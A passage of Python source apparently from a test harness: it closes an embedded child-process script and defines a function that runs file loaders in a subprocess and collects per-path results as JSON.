        try:
            os.wait()
        except ChildProcessError:
            break
    json.dump(results, sys.stdout)
    """
)


def run_natural_loaders(
    jobs: Sequence[tuple[NaturalLoader, Path]], python: str = sys.executable, timeout: float = 120
) -> dict[str, str]:
    """Load each file with its loader in one child process; what each load did, by path."""
    payload = json.dumps([{"loader": loader, "path": str(path)} for loader, path in jobs])
    done = subprocess.run(
        [python, "-c", LOADERS_SOURCE],
        input=payload,
        capture_output=True,
        text=True,
        timeout=timeout,
        check=False,
    )
    try:
        results: dict[str, str] = json.loads(done.stdout.strip().splitlines()[-1])
    except (IndexError, json.JSONDecodeError):
        results = {str(path): f"loader process failed: {done.stderr[-500:]}" for _, path in jobs}
    return results
